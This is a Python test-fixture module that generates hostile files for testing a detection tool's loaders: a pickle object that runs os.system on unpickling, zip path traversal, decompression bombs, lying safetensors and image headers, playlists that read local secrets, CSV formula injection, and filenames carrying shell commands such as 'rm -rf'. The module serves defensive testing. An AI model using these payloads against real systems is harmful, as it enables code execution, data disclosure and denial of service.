"""What attackers write: files that execute, connect, read elsewhere, unpack to more than there is, or lie."""

from __future__ import annotations

import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

__all__ = ["Evil", "playlists", "write_bombs", "write_lists", "write_media", "write_weights"]

_DEEP = 100_000
_SECRET = "the-secret-that-no-output-may-show"


class Evil:
    """Runs a command where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, ...]]:
        return os.system, (f"touch {self.mark}",)


def _zip(path: Path, members: Mapping[str, bytes], compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _lying_safetensors(shape: list[int], end: int) -> bytes:
    header = json.dumps({"a": {"dtype": "F32", "shape": shape, "data_offsets": [0, end]}}).encode()
    return struct.pack("<Q", len(header)) + header + bytes(16)


def write_weights(folder: Path, good: Path, best: Path, mark: Path) -> list[Path]:
    """Files that stand where weights are expected."""
    import torch

    folder.mkdir()
    evil = Evil(mark)
    with zipfile.ZipFile(good) as archive:
        torchs = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(best) as archive:
        ours = {name: archive.read(name) for name in archive.namelist()}
    top = next(iter(torchs)).partition("/")[0]
    torch.save({"format": 1, "specialist": "cm", "state_dict": evil}, folder / "pickle.pt")
    torch.save(evil, folder / "pickle_of_before_1.6.pt", _use_new_zipfile_serialization=False)
    (folder / "bare_pickle.pt").write_bytes(pickle.dumps(evil))
    _zip(folder / "path_traversal.pt", {**torchs, f"{top}/../../../evil": b"x"})
    _zip(folder / "path_traversal.zip", {**ours, "../../evil": b"x"})
    _zip(folder / "twice.zip", ours)
    with zipfile.ZipFile(folder / "twice.zip", "a") as archive:
        archive.writestr("other.json", b"{}")
    bomb = {**ours, "model.safetensors": bytes(600 * 2**20)}
    _zip(folder / "bomb.zip", bomb, zipfile.ZIP_DEFLATED)
    _zip(folder / "bomb_in_description.zip", {**ours, "meta.json": b" " * (64 * 2**20)}, zipfile.ZIP_DEFLATED)
    _zip(folder / "bomb.pt", {**torchs, f"{top}/data/9999": bytes(300 * 2**20)}, zipfile.ZIP_DEFLATED)
    for name, data in {
        "header_of_2**60_bytes": struct.pack("<Q", 2**60) + b"{}",
        "shape_of_2**40": _lying_safetensors([2**20, 2**20], 16),
        "data_past_the_end": _lying_safetensors([4], 2**50),
        "negative_shape": _lying_safetensors([-4], 16),
    }.items():
        _zip(folder / f"{name}.zip", {**ours, "model.safetensors": data})
        (folder / f"{name}.safetensors").write_bytes(data)
    _zip(folder / "deep.zip", {**ours, "meta.json": b"[" * _DEEP})
    meta = json.loads(ours["meta.json"])
    for name, changed in {
        "detector_is_code": {"config": {"data": {"detector": "evil_module:Run"}}},
        "backbone_is_a_download": {"model": {**meta["model"], "backbone": "hf-hub:evil/model"}},
        "classifier_is_code": {"model": {**meta["model"], "classifier": "evil_module:Run"}},
        "specialist_is_code": {"specialist": "evil_module:Run"},
        "markup": {"specialist": "[red]x\x1b[31m", "distribution": "a; rm -rf b"},
    }.items():
        _zip(folder / f"{name}.zip", {**ours, "meta.json": json.dumps({**meta, **changed}).encode()})
    return sorted(folder.iterdir())


def playlists(address: str, secret: Path) -> dict[str, str]:
    """Texts that point elsewhere, by suffix: to a server, and to a file."""
    return {
        "m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{address}/a.ts\n#EXTINF:1,\nfile://{secret}\n",
        "m3u": f"{address}/a.mp4\n",
        "concat": f"ffconcat version 1.0\nfile '{secret}'\nfile '{address}/a.mp4'\n",
        "list": f"file '{address}/a.mp4'\n",
        "mpd": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>{address}/</BaseURL>'
        '<AdaptationSet mimeType="video/mp4"><Representation id="a"/></AdaptationSet></Period></MPD>',
        "sdp": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video 5004 RTP/AVP 96\r\n"
        "a=rtpmap:96 H264/90000\r\n",
        "pls": f"[playlist]\nFile1={address}/a.mp4\n",
        "asx": f'<asx version="3.0"><entry><ref href="{address}/a.wmv"/></entry></asx>',
        "smil": f'<smil><body><video src="{address}/a.mp4"/></body></smil>',
        "url": f"[InternetShortcut]\nURL={address}/a.mp4\n",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/a.png"/></svg>',
        "avs": f'AviSource("{secret}")\n',
        "ffmeta": ";FFMETADATA1\ntitle=x\n",
        "rtsp": "RTSPtext\nrtsp://127.0.0.1/a\n",
    }


def write_media(folder: Path, good: Path, address: str, secret: Path) -> list[Path]:
    """Files that stand where videos are expected; each playlist under its own suffix and as .mp4."""
    folder.mkdir()
    secret.write_text(_SECRET)
    for kind, text in playlists(address, secret).items():
        (folder / f"{kind}.{kind}").write_text(text)
        (folder / f"{kind}_named.mp4").write_text(text)
    (folder / "utf16_playlist.mp4").write_text(playlists(address, secret)["m3u8"], "utf-16")
    (folder / "late_playlist.mp4").write_bytes(b"\n" * 3000 + playlists(address, secret)["m3u8"].encode())
    (folder / "with_reference.mov").write_bytes(_with_reference(good.read_bytes(), secret))
    (folder / "img%03d.jpg").write_bytes(b"\xff\xd8\xff\xe0 no image")
    (folder / "link_to_secret.mp4").symlink_to(secret)
    (folder / "circle.mp4").symlink_to("circle.mp4")
    (folder / "device.mp4").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.mp4")
    for name in ("a\x1b[31mred.mp4", "[bold]b[red].mp4", "line\nbreak.mp4", "\u202egnp.mp4", "-rf.mp4",
                 "caf\udce9.mp4", "=HYPERLINK(1).mp4", "{0}.mp4", "%s%n.mp4", "'; touch x; '.mp4"):  # fmt: skip
        (folder / name).write_bytes(b"no video")
    (folder / "loop").mkdir()
    (folder / "loop" / "again").symlink_to(folder, target_is_directory=True)
    return sorted(path for path in folder.iterdir() if path.name != "loop")


def _with_reference(content: bytes, secret: Path) -> bytes:
    """A film whose track says that its data lies in another file, by an alias of QuickTime's format."""
    path = str(secret).encode()
    name = bytes([min(63, len(secret.name))]) + secret.name.encode()[:63].ljust(63, b"\0")
    alias = bytes(10) + bytes([4]) + b"disk" + bytes(23) + bytes(12) + name + bytes(16) + struct.pack(">HH", 1, 1)
    alias += bytes(16) + struct.pack(">HH", 2, len(path)) + path + bytes(len(path) % 2) + struct.pack(">hH", -1, 0)
    entry = struct.pack(">I4sI", 12 + len(alias), b"alis", 0) + alias
    at = content.find(b"dref") - 4
    old = struct.unpack(">I", content[at : at + 4])[0]
    new = struct.pack(">I4sII", 16 + len(entry), b"dref", 0, 1) + entry
    data = bytearray(content[:at] + new + content[at + old :])
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        box = data.find(kind, data.find(b"moov")) - 4
        struct.pack_into(">I", data, box, struct.unpack_from(">I", data, box)[0] + len(new) - old)
    return bytes(data)


def write_bombs(folder: Path) -> list[Path]:
    """Images and videos that claim more than they hold."""
    folder.mkdir()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def png(side: int, extra: bytes = b"") -> bytes:
        head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        rows = zlib.compress(bytes(min(side, 20000) * (side // 8 + 1)), 9)
        return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")

    (folder / "huge.png").write_bytes(png(60000))
    text = b"Comment\0\0" + zlib.compress(bytes(200 * 2**20), 9)
    (folder / "text_bomb.png").write_bytes(png(64, chunk(b"zTXt", text)))
    (folder / "huge.gif").write_bytes(b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0" + bytes(6) + b"," +
                                      struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\0\x02\x02L\x01\0;")  # fmt: skip
    (folder / "huge.bmp").write_bytes(b"BM" + struct.pack("<IHHIIiiHHIIiiII", 70, 0, 0, 54, 40, 2**30, 2**30, 1, 24,
                                                          0, 0, 0, 0, 0, 0) + bytes(16))  # fmt: skip
    (folder / "huge.ppm").write_bytes(b"P6 1000000 1000000 255\n" + bytes(64))
    return sorted(folder.iterdir())


def write_lists(folder: Path, secret: Path) -> list[tuple[str, str, Path]]:
    """``(what, adapter, root)`` of datasets whose lists are hostile."""
    found: list[tuple[str, str, Path]] = []

    def tree(what: str, adapter: str, file: str, text: str, *videos: str) -> None:
        root = folder / f"{len(found):02d}_{adapter}"
        for path in (file, *videos):
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_bytes(b"\0\0\0\x18ftypmp42")
        (root / file).write_text(text)
        found.append((what, adapter, root))

    part = "dfdc_train_part_0/metadata.json"
    real, fake = {"label": "REAL", "split": "train"}, {"label": "FAKE", "split": "train", "original": "a.mp4"}
    tree("table with formulas", "csv", "manifest.csv",
         'path,label,group\n=cmd|calc!A1,real,=1+1\n"=HYPERLINK(""http://x"")",fake,@SUM(A1)\n')  # fmt: skip
    tree("table that names /etc/passwd", "csv", "manifest.csv", f"path,label\n/etc/passwd,real\n{secret},fake\n")
    tree("list with paths out of the root", "dfdc", part, json.dumps({f"../../{secret.name}": real, "a.mp4": fake}))
    tree("list with an absolute path", "dfdc", part, json.dumps({str(secret): real, "/etc/passwd": fake}))
    tree("list of 100,000 brackets", "dfdc", part, "[" * _DEEP, "dfdc_train_part_0/a.mp4")
    tree("list of 100,000 objects in each other", "dfdc", part, '{"a":' * _DEEP, "dfdc_train_part_0/a.mp4")
    tree("list with markup and controls", "dfdc", part,
         json.dumps({"\x1b[31m[red]x.mp4": real, "[/red].mp4": {"label": "\x1b]0;title\x07"}}),
         "dfdc_train_part_0/a.mp4")  # fmt: skip
    long = '{"a.mp4": {"label": ' + "9" * 10000 + "}}"
    tree("number of 10,000 digits", "dfdc", part, long, "dfdc_train_part_0/a.mp4")
    outside = "test list with paths out of the root"
    tree(outside, "dfdc", "labels.csv", f"filename,label\n../{secret.name},1\n/etc/passwd,0\n")
    names = "1 ../../etc/passwd\n0 /etc/passwd\n"
    tree(outside, "celebdf", "List_of_testing_videos.txt", names, "Celeb-real/id0_0000.mp4",
         "Celeb-synthesis/id0_id1_0000.mp4")  # fmt: skip
    return found
